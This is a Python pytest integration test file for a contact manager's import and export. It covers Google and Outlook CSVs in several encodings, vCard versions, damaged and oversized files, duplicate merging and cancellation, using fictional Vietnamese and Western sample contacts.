"""Contact files in and out: the real-world-shaped files of tests/data into a real SQLite store."""

from __future__ import annotations

import codecs
import contextlib
import csv
import json
import os
import random
import signal
import sqlite3
import subprocess
import sys
import threading
import time
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from omidesk.domain.contact_files import formulas
from omidesk.domain.contact_files.csv_formats import layout_for, sniff_delimiter
from omidesk.domain.contact_files.encoding import vietnamese_evidence
from omidesk.domain.contact_files.model import (
    CSV,
    GOOGLE_CSV,
    OUTLOOK_CSV,
    VCARD,
    ContactFileError,
    Mapping,
)
from omidesk.domain.contact_files.names import compose
from omidesk.domain.contact_files.vcard import fold as fold_line
from omidesk.domain.contacts import Contact, Phone, fold
from omidesk.domain.records import CallStatus
from omidesk.infra import contact_files
from omidesk.infra.contact_files import detect, iter_contacts, preview, read_contacts
from omidesk.infra.paths import default_paths
from omidesk.store.calls import CallStore
from omidesk.store.contact_transfer import ExportReader, ImportTarget
from omidesk.store.contacts import ContactStore
from omidesk.store.db import Database
from omidesk.store.import_journal import undo_abandoned
from omidesk.usecases import export_contacts as exporter
from omidesk.usecases import import_contacts as importer
from omidesk.usecases.import_contacts import ImportReport
from tests.conftest import ROOT, run_cli
from tests.test_contacts_store import everything, fts_ok

# Imports and exports through real SQLite files and the command line.
pytestmark = pytest.mark.integration

DATA = Path(__file__).resolve().parent / "data"


# The use cases over the real adapters, as the composition root wires them.


def import_file(db: Database, path: Path, mapping: Mapping | None = None, **kw) -> ImportReport:
    return importer.import_file(ImportTarget(db), contact_files, path, mapping, **kw)


def export_file(store: ContactStore, path: Path) -> int:
    return exporter.export_file(ExportReader(store.db), contact_files, path)


def export_csv(store: ContactStore, path: Path) -> int:
    assert path.suffix == ".csv"
    return export_file(store, path)


def export_vcard(store: ContactStore, path: Path) -> int:
    assert path.suffix == ".vcf"
    return export_file(store, path)


def save_report(report: ImportReport, path: Path, lang: str) -> None:
    files = importer.ContactImport(contextlib.nullcontext, contact_files)
    files.save_report(report, path, lang)


@pytest.fixture
def db(tmp_path: Path) -> Iterator[Database]:
    with Database(tmp_path / "omidesk.sqlite3") as database:
        yield database


@pytest.fixture
def store(db: Database) -> ContactStore:
    return ContactStore(db)


def everyone(store: ContactStore) -> dict[str, Contact]:
    """Every stored contact by name (the sample files repeat no name once merged)."""
    contacts = store.search("", limit=1000)
    by_name = {contact.name: contact for contact in contacts}
    assert len(by_name) == len(contacts)
    return by_name


def numbers(contact: Contact) -> list[tuple[str, str]]:
    return [(phone.number, phone.label) for phone in contact.phones]


def counts(report: ImportReport) -> tuple[int, int, int, int, int]:
    return report.total, report.imported, report.merged, report.flagged, len(report.skipped)


def skipped(report: ImportReport) -> list[tuple[int, str, str]]:
    return [(issue.row, issue.reason, issue.name) for issue in report.skipped]


# --- CSV files ----------------------------------------------------------------------------------


def test_google_csv_export(db: Database, store: ContactStore) -> None:
    seen = preview(DATA / "google_contacts.csv")
    assert (seen.kind, seen.encoding, seen.delimiter) == (GOOGLE_CSV, "utf-8", ",")
    assert seen.headers[:4] == ["Name", "Given Name", "Additional Name", "Family Name"]
    assert seen.total_estimate == 20
    assert seen.mapping is not None and len(seen.mapping.phones) == 3

    report = import_file(db, DATA / "google_contacts.csv")
    assert counts(report) == (20, 18, 1, 2, 1)
    assert skipped(report) == [(11, "import_no_number", "Ngô Thanh Vân")]
    assert [(i.row, i.name, i.detail) for i in report.flagged_rows] == [
        (12, "Dương Minh Khôi", "12345"),
        (13, "Lý Thị Mai", "0906 12"),
    ]
    people = everyone(store)
    assert len(people) == 18
    # Row 14 repeats row 2: its Home number and note join the first one.
    an = people["Nguyễn Văn An"]
    assert numbers(an) == [
        ("090 123 4567", "Mobile"),
        ("028 3822 1234", "Work"),
        ("024 3826 8888", "Home"),
    ]
    assert (an.company, an.email, an.note, an.favorite) == (
        "Vinamilk",
        "an.nguyen@vinamilk.com.vn",
        "Gọi giờ hành chính",
        True,
    )
    # " ::: " holds several values in one cell, numbers and addresses alike.
    assert numbers(people["Trần Thị Bích Ngọc"]) == [
        ("0912 345 678", "Mobile"),
        ("0987 654 321", "Mobile"),
    ]
    assert people["Võ Minh Tuấn"].email == "tuan.vo@fpt.com.vn, minhtuan@gmail.com"
    # No Name: composed from the parts, Vietnamese family first, others given first.
    assert "Đỗ Minh Khang" in people
    assert "John Smith" in people
    assert people["Highlands Coffee Quận 1"].company == "Highlands Coffee Quận 1"
    assert people["Phan Văn Trị"].note == "Khách VIP\nGọi buổi sáng, trước 10 giờ"
    assert numbers(people["Hồ Thị Lan"]) == [("0988 777 666", "Mobile")]  # "* Mobile"
    assert numbers(people["Trương Mỹ Linh"]) == [("0394 567 890", "Zalo")]
    (ha,) = people["Phạm Thị Thu Hà"].phones
    assert (ha.number, ha.e164, ha.converted_from) == (
        "0165 123 4567",
        "+84351234567",
        "01651234567",
    )
    assert [(p.number, p.valid) for p in people["Lý Thị Mai"].phones] == [
        ("0906 123 456", True),
        ("0906 12", False),
    ]
    assert [(p.number, p.valid) for p in people["Dương Minh Khôi"].phones] == [("12345", False)]


def test_google_csv_export_of_2020_without_a_name_column(store: ContactStore) -> None:
    report = import_file(store.db, DATA / "google_contacts_2020.csv")
    assert counts(report) == (4, 4, 0, 0, 0)
    people = everyone(store)
    assert set(people) == {"Trịnh Ngọc Thảo", "Emily Clark", "Nguyen Quang", "Grab Việt Nam"}
    assert people["Trịnh Ngọc Thảo"].favorite
    assert numbers(people["Emily Clark"]) == [("+65 6123 4567", "Work")]
    assert people["Emily Clark"].email == "emily.clark@grab.com"


def test_outlook_csv_in_windows_1258(store: ContactStore) -> None:
    raw = (DATA / "outlook_contacts_cp1258.csv").read_bytes()
    # Windows-1258 writes "ạ" as "a" and a combining dot below (0xF2): NFC must rejoin them.
    assert b'"Ph' + b"a\xf2m" + b'"' in raw
    seen = preview(DATA / "outlook_contacts_cp1258.csv")
    assert (seen.kind, seen.encoding) == (OUTLOOK_CSV, "cp1258")
    assert seen.mapping is not None
    assert (seen.mapping.given, seen.mapping.middle, seen.mapping.family) == (1, 2, 3)

    report = import_file(store.db, DATA / "outlook_contacts_cp1258.csv")
    assert counts(report) == (15, 13, 1, 1, 1)
    assert skipped(report) == [(8, "import_no_number", "Hồ Thị Lan")]
    assert [(i.row, i.detail) for i in report.flagged_rows] == [(11, "090 123")]
    people = everyone(store)
    assert set(people) == {
        "Phạm Thị Thu Hà",
        "Đặng Thị Hương",
        "Lê Hoàng Nam",
        "Võ Minh Tuấn",
        "Peter Müller",
        "Bùi Quốc Khánh",
        "Trương Ánh",
        "Hoàng Gia Bảo",
        "Dương Minh Khôi",
        "Lý Mai",
        "Ngân hàng Vietcombank",
        "Vũ Đức Thắng",
        "Ngô Hải Yến",
    }
    for contact in people.values():
        for text in (contact.name, contact.company):
            assert unicodedata.is_normalized("NFC", text)
    ha = people["Phạm Thị Thu Hà"]
    assert ha.company == "Công ty Cổ phần Sữa Việt Nam"
    assert ha.email == "ha.pham@vinamilk.com.vn"
    assert numbers(ha) == [("0903 123 456", "Mobile"), ("028 5415 5555", "Work")]
    assert numbers(people["Đặng Thị Hương"]) == [
        ("0935 678 901", "Mobile"),
        ("0236 3821 111", "Home"),
    ]
    (tuan,) = people["Võ Minh Tuấn"].phones
    assert (tuan.e164, tuan.converted_from) == ("+84387654321", "01687654321")
    # The same number in Mobile and Primary is listed once.
    assert numbers(people["Hoàng Gia Bảo"]) == [("0977 888 999", "Mobile")]
    assert numbers(people["Ngô Hải Yến"]) == [
        ("0912 345 678", "Mobile"),
        ("028 3822 9999", "Work Fax"),
    ]
    assert numbers(people["Vũ Đức Thắng"]) == [("0916 555 444", "Car")]


def test_semicolon_csv_with_bom_and_vietnamese_headers(store: ContactStore) -> None:
    seen = preview(DATA / "excel_semicolon_bom.csv")
    assert (seen.kind, seen.encoding, seen.delimiter) == (CSV, "utf-8-sig", ";")
    assert seen.headers == ["Họ tên", "Điện thoại", "Công ty", "Email"]
    assert seen.mapping == Mapping(name=0, phones=((1, ""),), company=2, email=3)

    report = import_file(store.db, DATA / "excel_semicolon_bom.csv")
    assert counts(report) == (12, 10, 1, 1, 1)
    assert skipped(report) == [(8, "import_no_number", "Võ Minh Tuấn")]
    people = everyone(store)
    # "NGUYEN VAN AN" is "Nguyễn Văn An" folded, with the same number: merged.
    assert "NGUYEN VAN AN" not in people
    assert people["Nguyễn Văn An"].email == "an@vinamilk.com.vn, an.nguyen@gmail.com"
    # Two numbers written in one cell.
    assert numbers(people["Đặng Thị Hương"]) == [("0935 678 901", ""), ("0236 3821 111", "")]
    assert people["Hoàng Gia Bảo"].company == "Công ty TNHH Bảo; Gia"
    assert people["Lê Hoàng Nam"].phones[0].e164 == "+84983456789"
    assert not people["Bùi Quốc Khánh"].phones[0].valid


def test_tab_separated_utf16_from_excel(store: ContactStore) -> None:
    seen = preview(DATA / "excel_unicode_text_utf16.txt")
    assert (seen.encoding, seen.delimiter) == ("utf-16", "\t")
    assert seen.mapping == Mapping(name=0, phones=((1, "Mobile"), (2, "")), note=3)
    report = import_file(store.db, DATA / "excel_unicode_text_utf16.txt")
    assert counts(report) == (10, 10, 0, 0, 0)
    people = everyone(store)
    assert numbers(people["Nguyễn Thị Hồng"]) == [("0903 123 456", "Mobile"), ("028 3823 4567", "")]
    assert people["Lê Thị Cúc"].phones[0].e164 == "+84387654321"
    assert numbers(people["Hoàng Thị Én"]) == [("0236 3822 222", "")]
    assert people["Hoàng Thị Én"].note == "chỉ có số bàn"


def test_windows_1252_is_not_mistaken_for_1258(store: ContactStore) -> None:
    assert preview(DATA / "western_cp1252.csv").encoding == "cp1252"
    report = import_file(store.db, DATA / "western_cp1252.csv")
    assert counts(report) == (10, 10, 0, 0, 0)
    assert set(everyone(store)) == {
        "José García",
        "François Dupont",
        "Björn Ångström",
        "Zoë Müller",
        "Niccolò Rossi",
        "João Silva",
        "Renée Lefèvre",
        "Søren Kierkegaard",
        "Ólafur Þórsson",
        "Ñuño Peña",
    }


def test_quoted_fields_with_line_breaks(store: ContactStore) -> None:
    report = import_file(store.db, DATA / "crm_multiline.csv")
    assert counts(report) == (8, 8, 0, 0, 0)
    people = everyone(store)
    ngoc = people["Trần Thị Bích Ngọc"]
    assert ngoc.company == "Công ty TNHH Một Thành Viên, Chi nhánh HCM"
    assert ngoc.note == 'Đã gửi báo giá\nChờ phản hồi "gấp"'
    # Line ends are stored as "\n" whatever the file used.
    assert people["Võ Minh Tuấn"].note == "Dòng 1\nDòng 2\nDòng 3"
    assert people["Hoàng Gia Bảo"].note == "Hết"


def test_a_csv_without_header_is_mapped_from_its_cells(store: ContactStore) -> None:
    seen = preview(DATA / "no_header.csv")
    assert seen.headers == ["", "", ""]
    assert seen.mapping == Mapping(name=0, phones=((1, ""),), email=2)
    assert seen.rows[0] == ["Nguyễn Văn An", "0901 234 567", "an@vinamilk.com.vn"]
    report = import_file(store.db, DATA / "no_header.csv")
    assert counts(report) == (6, 6, 0, 0, 0)
    assert [issue.row for issue in report.rows()] == []
    assert everyone(store)["Võ Minh Tuấn"].email == "tuan@fpt.vn"


def test_excel_sep_line_names_the_delimiter(tmp_path: Path, store: ContactStore) -> None:
    path = tmp_path / "sep.csv"
    path.write_text("sep=;\r\nTên;SĐT\r\nNguyễn Văn An;0901 234 567\r\n", encoding="utf-8-sig")
    assert preview(path).delimiter == ";"
    report = import_file(store.db, path)
    assert counts(report) == (1, 1, 0, 0, 0)
    assert numbers(everyone(store)["Nguyễn Văn An"]) == [("0901 234 567", "")]


def test_a_mapping_chosen_in_the_wizard_replaces_the_guess(store: ContactStore) -> None:
    mapping = Mapping(name=0, phones=((1, "Mobile"),))
    report = import_file(store.db, DATA / "excel_semicolon_bom.csv", mapping)
    assert counts(report) == (12, 10, 1, 1, 1)
    an = everyone(store)["Nguyễn Văn An"]
    assert (an.company, an.email, numbers(an)) == ("", "", [("0901 234 567", "Mobile")])


# --- vCard files ----------------------------------------------------------------------------------


def test_vcard_21_from_an_old_nokia(store: ContactStore) -> None:
    seen = preview(DATA / "nokia_vcard21.vcf")
    assert (seen.kind, seen.mapping, seen.total_estimate) == (VCARD, None, 11)
    assert seen.rows[0] == ["Nguyễn Văn An", "0901234567, 02838221234, 02438268888", ""]

    report = import_file(store.db, DATA / "nokia_vcard21.vcf")
    assert counts(report) == (11, 9, 1, 1, 1)
    assert skipped(report) == [(8, "import_no_number", "Võ Minh Tuấn")]
    assert [(i.row, i.name, i.detail) for i in report.flagged_rows] == [
        (9, "Bùi Quốc Khánh", "123")
    ]
    people = everyone(store)
    # N only, quoted-printable UTF-8: family first. Card 11 repeats card 1: merged.
    assert numbers(people["Nguyễn Văn An"]) == [
        ("0901234567", "Mobile"),
        ("02838221234", "Work"),
        ("02438268888", "Home"),
        ("0909 999 888", "Mobile"),
    ]
    assert "Trần Thị Bích Ngọc" in people  # FN over a quoted-printable soft line break
    assert "Le Hoang Nam" in people  # no accents, but Lê is a Vietnamese family name
    assert "John Smith" in people
    assert people["Ngân hàng ACB"].company == "Ngân hàng ACB"
    assert people["Phạm Thị Thu Hà"].phones[0].e164 == "+84351234567"
    assert numbers(people["Đặng Thị Hương"])[1] == ("02363821111", "Fax")
    bao = people["Hoàng Gia Bảo"]
    # vCard 2.1 does not escape commas: the whole note, across its soft line break.
    assert bao.note == "Khách hàng thân thiết, gọi trước 10 giờ sáng và sau 2 giờ chiều"
    assert bao.email == "bao.hoang@thegioididong.com"  # a folded line


def test_vcard_30_from_an_iphone(store: ContactStore) -> None:
    report = import_file(store.db, DATA / "iphone_vcard30.vcf")
    assert counts(report) == (9, 8, 0, 0, 1)
    assert skipped(report) == [(9, "import_no_number", "Ngô Thanh Vân")]
    people = everyone(store)
    an = people["Nguyễn Văn An"]
    assert numbers(an) == [("090 123 4567", "Mobile"), ("028 3822 1234", "Zalo")]
    assert (an.company, an.email) == ("Vinamilk", "an@vinamilk.com.vn")
    assert numbers(people["Trần Thị Bích Ngọc"]) == [
        ("+84 912 345 678", "Mobile"),
        ("0987 654 321", "Mobile"),
        ("0283 822 1234", "Home Fax"),
    ]
    nam = people["Lê Hoàng Nam"]
    assert numbers(nam) == [("(028) 3930 5555", "Work"), ("1900 545 413", "Main")]
    assert nam.note == "Gọi trước 10 giờ, không gọi chủ nhật\nLiên hệ qua Zalo"
    assert numbers(people["Phạm Thị Thu Hà"]) == [("0165 123 4567", "số cũ")]
    # Written decomposed (NFD) by macOS, stored composed.
    assert "Hoàng Gia Bảo" in people
    assert people["Highlands Coffee"].company == "Highlands Coffee"


def test_vcard_40_from_android(store: ContactStore) -> None:
    report = import_file(store.db, DATA / "android_vcard40.vcf")
    assert counts(report) == (10, 8, 1, 1, 1)
    assert skipped(report) == [(9, "import_no_number", "Hồ Thị Lan")]
    assert [(i.row, i.detail) for i in report.flagged_rows] == [(8, "1234")]
    people = everyone(store)
    assert numbers(people["Nguyễn Văn An"]) == [
        ("+84-90-123-4567", "Mobile"),
        ("+84-28-3822-1234", "Work"),
        ("+84-909-999-888", "Mobile"),
    ]
    assert people["Phạm Thị Thu Hà"].phones[0].converted_from == "01651234567"
    assert numbers(people["Đặng Thị Hương"]) == [("0935678901", "Mobile")]
    assert numbers(people["Vũ Đức Thắng"]) == [("0916 555 444", "Mobile")]


# --- broken files ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("broken_empty.csv", "import_empty"),
        ("broken_binary.csv", "import_not_text"),
        ("does_not_exist.csv", "import_unreadable"),
    ],
)
def test_an_unusable_file_is_refused_whole(db: Database, name: str, code: str) -> None:
    with pytest.raises(ContactFileError) as raised:
        preview(DATA / name)
    assert raised.value.code == code
    assert raised.value.params["path"] == str(DATA / name)
    with pytest.raises(ContactFileError):
        import_file(db, DATA / name)


def test_a_csv_without_a_phone_column_previews_but_does_not_import(db: Database) -> None:
    seen = preview(DATA / "broken_no_phone_column.csv")
    assert seen.mapping == Mapping(name=0, company=1, email=2, note=3)
    with pytest.raises(ContactFileError) as raised:
        import_file(db, DATA / "broken_no_phone_column.csv")
    assert raised.value.code == "import_no_phone_column"


def test_a_truncated_vcard_reports_its_last_card(store: ContactStore) -> None:
    report = import_file(store.db, DATA / "broken_truncated.vcf")
    assert counts(report) == (4, 3, 0, 0, 1)
    (issue,) = report.skipped
    assert (issue.row, issue.reason) == (4, "import_bad_row")
    assert "Phạm Thị Thu Hà" in issue.detail


def test_ragged_rows_are_reported_not_misread(store: ContactStore) -> None:
    report = import_file(store.db, DATA / "broken_ragged.csv")
    assert counts(report) == (7, 4, 0, 0, 3)
    assert skipped(report) == [
        (4, "import_bad_row", ""),
        (5, "import_no_number", "Phạm Thị Thu Hà"),
        (7, "import_bad_row", ""),
    ]
    assert report.skipped[0].detail == "Lê Hoàng Nam,Jr.,0983456789,FPT"
    assert set(everyone(store)) == {
        "Nguyễn Văn An",
        "Trần Thị Bích Ngọc",
        "Đặng Thị Hương",
        "Bùi Quốc Khánh",
    }


def test_files_that_hold_no_contacts(tmp_path: Path) -> None:
    header_only = tmp_path / "header.csv"
    header_only.write_text("Name,Phone\n", encoding="utf-8")
    not_vcard = tmp_path / "contacts.vcf"
    not_vcard.write_text("Name,Phone\nAn,0901234567\n", encoding="utf-8")
    blank = tmp_path / "blank.csv"
    blank.write_bytes(codecs.BOM_UTF8 + b"\r\n  \r\n")
    for path, code in (
        (header_only, "import_not_contacts"),
        (not_vcard, "import_not_contacts"),
        (blank, "import_empty"),
    ):
        with pytest.raises(ContactFileError) as raised:
            read_contacts(path)
        assert raised.value.code == code, path


# --- huge, damaged and mixed files ----------------------------------------------------------------


def _card(name: str, number: str, *extra: str) -> str:
    return "\r\n".join(["BEGIN:VCARD", "VERSION:3.0", f"FN:{name}", f"TEL:{number}", *extra]) + (
        "\r\nEND:VCARD\r\n"
    )


def test_a_value_folded_over_80000_lines_imports_whole(tmp_path: Path, store: ContactStore) -> None:
    pieces = [f"{n % 10}ạ" for n in range(80_000)]
    photo = "PHOTO;ENCODING=b;TYPE=JPEG:" + "\r\n ".join(["QUJD" * 18] * 80_000)
    note = "NOTE:Ghi chú " + "\r\n ".join(pieces)
    path = tmp_path / "folded.vcf"
    path.write_text(
        _card("Nguyễn Văn An", "0901 234 567", photo, note) + _card("Lê Nam", "0912 345 678"),
        encoding="utf-8",
        newline="",
    )
    report = import_file(store.db, path)
    assert counts(report) == (2, 2, 0, 0, 0)
    an = everyone(store)["Nguyễn Văn An"]
    assert an.note == "Ghi chú " + "".join(pieces)
    assert numbers(an) == [("0901 234 567", "")]


def test_lines_that_make_vobject_backtrack_are_read_in_one_pass(tmp_path: Path) -> None:
    # vobject's line pattern backtracks exponentially on a line whose parameters do not
    # read (about 4 times longer per parameter): 40 of them would never end.
    path = tmp_path / "hostile.vcf"
    path.write_text(
        _card("Nguyễn Văn An", "0901 234 567", "TEL;TYPE=" + "cell," * 40)
        + _card("Lê Nam", "0912 345 678", "NOTE" + ";a=b" * 40 + ";x y:ghi chú")
        + _card("Trần Thị Bích Ngọc", "0983 456 789", "TEL" + ";a" * 40 + ';"x:0935 678 901'),
        encoding="utf-8",
        newline="",
    )
    result = run_cli("contacts", "import", str(path), "--json", timeout=60)
    assert result.code == 0, result.err
    assert json.loads(result.out)["imported"] == 3
    found = json.loads(run_cli("contacts", "search", "tran thi bich ngoc", "--json").out)
    # The number of a line that does not read is kept all the same.
    assert [phone["number"] for phone in found[0]["phones"]] == ["0983 456 789", "0935 678 901"]


def _write_repeated(path: Path, head: str, unit: str, total_bytes: int, tail: str) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        file.write(head)
        file.write(unit * (total_bytes // len(unit.encode("utf-8"))))
        file.write(tail)


@pytest.mark.parametrize(
    ("shape", "imported", "skipped_reason"),
    [
        # A 50 MB photo, folded as phones write it: the contact is imported, the photo unread.
        ("photo", 2, None),
        # 50 MB of note on one line, then 50 MB of numbers: no contact is that big.
        ("note", 1, "import_card_too_big"),
        ("numbers", 1, "import_card_too_big"),
    ],
)
@pytest.mark.slow
def test_a_50_mb_card_is_read_to_its_end(
    tmp_path: Path, shape: str, imported: int, skipped_reason: str | None
) -> None:
    path = tmp_path / f"{shape}.vcf"
    size = 50 << 20
    head = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Trần Thị Bích Ngọc\r\nTEL:0912 345 678\r\n"
    tail = "\r\nEND:VCARD\r\n" + _card("Lê Nam", "0983 456 789")
    if shape == "photo":
        _write_repeated(path, head + "PHOTO;ENCODING=b:QUJD", "\r\n " + "QUJD" * 18, size, tail)
    elif shape == "note":
        _write_repeated(path, head + "NOTE:", "Ghi chú dài ", size, tail)
    else:
        _write_repeated(path, head + "TEL:0", "\r\nTEL:0901 234 567", size, tail)
    # Only that it ends (a quadratic read of this card never did); no speed is asserted.
    result = run_cli("contacts", "import", str(path), "--json", timeout=120)
    assert result.code == 0, result.err
    report = json.loads(result.out)
    assert report["imported"] == imported
    if skipped_reason is None:
        assert report["skipped_rows"] == []
    else:
        assert [(r["row"], r["reason"]) for r in report["skipped_rows"]] == [(1, skipped_reason)]


def _cp1258(text: str) -> bytes:
    """Text as Windows-1258 writes it: a toned letter the code page lacks as its base
    letter (ă, ê, ơ… it has) followed by the tone mark."""
    out = []
    for char in unicodedata.normalize("NFC", text):
        try:
            char.encode("cp1258")
        except UnicodeEncodeError:
            decomposed = unicodedata.normalize("NFD", char)
            tone = next(mark for mark in decomposed if mark in "\u0300\u0301\u0303\u0309\u0323")
            out.append(unicodedata.normalize("NFC", decomposed.replace(tone, "")) + tone)
        else:
            out.append(char)
    return "".join(out).encode("cp1258")


@pytest.mark.parametrize(("bom", "encoding"), [(b"", "utf-8"), (codecs.BOM_UTF8, "utf-8-sig")])
def test_a_utf8_file_with_a_few_rows_in_another_encoding(
    tmp_path: Path, store: ContactStore, bom: bytes, encoding: str
) -> None:
    rows = [f"Nguyễn Văn Khách {n},0911 {n:06d}\r\n".encode() for n in range(30)]
    rows[3] = _cp1258("Phạm Thị Thu Hà,0935 678 901\r\n")  # row 5 (the header is row 1)
    rows[10] = "José Müller,0936 000 111\r\n".encode("cp1252")  # row 12
    path = tmp_path / "mixed.csv"
    path.write_bytes(bom + "Họ tên,Điện thoại\r\n".encode() + b"".join(rows))
    seen = preview(path)
    assert seen.encoding == encoding
    assert seen.rows[0] == ["Nguyễn Văn Khách 0", "0911 000000"]
    report = import_file(store.db, path)
    assert counts(report) == (30, 28, 0, 0, 2)
    assert [(issue.row, issue.reason) for issue in report.skipped] == [
        (5, "import_bad_encoding"),
        (12, "import_bad_encoding"),
    ]
    # Windows-1258 writes ạ and ị as a letter and a tone mark: the mark is the byte shown.
    assert report.skipped[0].detail == "Pha\ufffdm Thi\ufffd Thu H\ufffd,0935 678 901"
    assert report.skipped[1].detail == "Jos\ufffd M\ufffdller,0936 000 111"
    people = everyone(store)
    assert len(people) == 28 and "Nguyễn Văn Khách 29" in people
    # Nothing undecodable reaches the store, the report or the JSON.
    json.dumps(report.to_json(), ensure_ascii=False).encode("utf-8")
    saved = tmp_path / "report.csv"
    save_report(report, saved, "vi")
    assert "Chữ trong dòng này" in saved.read_text(encoding="utf-8-sig")


def test_a_vcard_with_one_card_in_another_encoding(tmp_path: Path, store: ContactStore) -> None:
    path = tmp_path / "mixed.vcf"
    good = [f"Nguyễn Văn An {n}" for n in range(5)]
    path.write_bytes(
        _card(good[0], "0901 234 560").encode()
        + _cp1258(_card("Đặng Thị Hương", "0935 678 901"))
        + b"".join(_card(name, f"0901 234 56{n}").encode() for n, name in enumerate(good[1:], 1))
    )
    report = import_file(store.db, path)
    assert counts(report) == (6, 5, 0, 0, 1)
    (issue,) = report.skipped
    assert (issue.row, issue.reason) == (2, "import_bad_encoding")
    assert issue.detail == "FN:\ufffd\ufffd\ufffdng Thi\ufffd H\ufffd\ufffdng TEL:0935 678 901"
    assert set(everyone(store)) == set(good)


def _garbage(size: int, seed: int) -> bytes:
    """What a copy cut short leaves: binary data (here starting like a gzip stream)."""
    return b"\x1f\x8b\x08" + random.Random(seed).randbytes(size)


@pytest.mark.parametrize("damage", ["random", "zeros"])
def test_a_vcard_damaged_after_its_cards_imports_them(
    tmp_path: Path, db: Database, damage: str
) -> None:
    clean = (DATA / "iphone_vcard30.vcf").read_bytes()
    garbage = _garbage(4096, 1) if damage == "random" else b"\x00" * 8192
    path = tmp_path / "cut.vcf"
    path.write_bytes(clean + garbage)
    assert preview(path).kind == VCARD
    report = import_file(db, path)
    with Database(tmp_path / "clean.sqlite3") as reference:
        expected = import_file(reference, DATA / "iphone_vcard30.vcf")
        assert summary(ContactStore(db)) == summary(ContactStore(reference))
    assert (report.imported, report.merged) == (expected.imported, expected.merged)
    damaged = [issue for issue in report.skipped if issue.reason == "import_damaged"]
    lines = clean.count(b"\n")
    assert [(issue.row, issue.line) for issue in damaged] == [(10, lines + 1)]
    assert report.damaged
    assert report.to_json()["damaged"] is True


def test_a_card_cut_by_damage_is_reported_and_the_cards_after_it_read(
    tmp_path: Path, store: ContactStore
) -> None:
    second = _card("Phạm Thị Thu Hà", "0935 678 901").encode()
    cut = second[: second.index(b"TEL")]  # lines 6 to 8, and the damage on line 9
    path = tmp_path / "holed.vcf"
    path.write_bytes(
        _card("Nguyễn Văn An", "0901 234 567").encode()
        + cut
        + _garbage(3000, 2)
        + b"\r\n"
        + _card("Lê Hoàng Nam", "0983 456 789").encode()
    )
    report = import_file(store.db, path)
    assert set(everyone(store)) == {"Nguyễn Văn An", "Lê Hoàng Nam"}
    (issue,) = report.skipped
    assert (issue.row, issue.reason, issue.line) == (2, "import_damaged", 9)
    assert "Phạm Thị Thu Hà" in issue.detail
    assert report.damaged


@pytest.mark.slow
def test_damage_past_the_first_megabyte_leaves_the_encoding_alone(
    tmp_path: Path, store: ContactStore
) -> None:
    cards = "".join(_card(f"Đặng Thị Hương {n}", f"0935 {n:06d}") for n in range(15_000))
    path = tmp_path / "long.vcf"
    path.write_bytes(cards.encode() + _garbage(1 << 20, 3))
    assert len(cards.encode()) > 1 << 20
    report = import_file(store.db, path)
    assert report.imported == 15_000
    assert store.search("Đặng Thị Hương 14999", limit=1)[0].name == "Đặng Thị Hương 14999"
    assert [issue.reason for issue in report.skipped] == ["import_damaged"]


def test_cli_import_of_a_damaged_vcard_exits_1_with_the_cards_before_imported(
    tmp_path: Path,
) -> None:
    path = tmp_path / "cut.vcf"
    path.write_bytes((DATA / "iphone_vcard30.vcf").read_bytes() + _garbage(2048, 4))
    result = run_cli("contacts", "import", str(path))
    assert result.code == 1, result.err
    assert "8 imported" in result.out
    assert "row 10: The file is damaged from this card on" in result.out
    assert "Traceback" not in result.err
    as_json = run_cli("contacts", "import", str(path), "--json")
    assert as_json.code == 1
    report = json.loads(as_json.out)
    assert report["damaged"] is True
    assert report["skipped_rows"][-1]["reason"] == "import_damaged"
    assert report["skipped_rows"][-1]["line"] == 79
    found = run_cli("contacts", "search", "nguyen van an", "--json")
    assert [item["name"] for item in json.loads(found.out)] == ["Nguyễn Văn An"]


# --- duplicates, cancel, progress -----------------------------------------------------------------


def test_duplicates_of_stored_contacts_are_merged_not_doubled(store: ContactStore) -> None:
    store.add(
        Contact(
            name="Nguyễn Văn An",
            phones=(Phone.parse("0901 234 567", "Mobile"),),
            email="an@old.vn",
            note="khách cũ",
        )
    )
    first = import_file(store.db, DATA / "google_contacts.csv")
    assert (first.imported, first.merged) == (17, 2)
    an = everyone(store)["Nguyễn Văn An"]
    # The stored contact keeps its number, note and address and gains the file's.
    assert numbers(an) == [
        ("0901 234 567", "Mobile"),
        ("028 3822 1234", "Work"),
        ("024 3826 8888", "Home"),
    ]
    assert (an.note, an.email, an.company, an.favorite) == (
        "khách cũ",
        "an@old.vn, an.nguyen@vinamilk.com.vn",
        "Vinamilk",
        True,
    )
    before = store.count()
    again = import_file(store.db, DATA / "google_contacts.csv")
    assert counts(again) == (20, 0, 19, 2, 1)
    assert store.count() == before


def test_cancel_after_the_first_progress_call_leaves_the_store_unchanged(
    store: ContactStore,
) -> None:
    import_file(store.db, DATA / "outlook_contacts_cp1258.csv")
    before = everyone(store)
    calls: list[tuple[int, int]] = []
    report = import_file(
        store.db,
        DATA / "google_contacts.csv",
        progress=lambda done, total: calls.append((done, total)),
        cancelled=lambda: bool(calls),
    )
    assert calls and report.cancelled
    assert (report.imported, report.merged) == (0, 0)
    assert everyone(store) == before


def test_a_long_file_reports_progress_and_stops_reading_when_cancelled(
    tmp_path: Path, store: ContactStore
) -> None:
    path = tmp_path / "long.csv"
    rows = [["Tên", "Di động"]] + [[f"Khách {n}", f"0901 {n:06d}"] for n in range(1200)]
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    calls: list[tuple[int, int]] = []
    report = import_file(store.db, path, progress=lambda done, total: calls.append((done, total)))
    assert counts(report) == (1200, 1200, 0, 0, 0)
    assert [done for done, _ in calls] == [0, 500, 1000, 1200]
    assert all(total > 0 and done <= total for done, total in calls[1:])
    assert calls[-1] == (1200, 1200)

    asked: list[int] = []
    result = read_contacts(
        path,
        progress=lambda done, total: asked.append(done),
        cancelled=lambda: len(asked) > 1,
    )
    # Asked at row 500 after one progress call: not yet; at row 1000: stop.
    assert result.cancelled and result.contacts == [] and asked == [0, 500]


def _book_before_an_import(store: ContactStore) -> None:
    store.add(
        Contact(
            name="Nguyễn Văn An",
            phones=(Phone.parse("0901 234 567", "Mobile"),),
            email="an@old.vn",
            note="khách cũ",
        )
    )


def _book(store: ContactStore) -> list[tuple[object, ...]]:
    return sorted(
        (c.name, c.company, c.email, c.note, c.favorite, tuple(numbers(c)))
        for c in store.search("", limit=1000)
    )


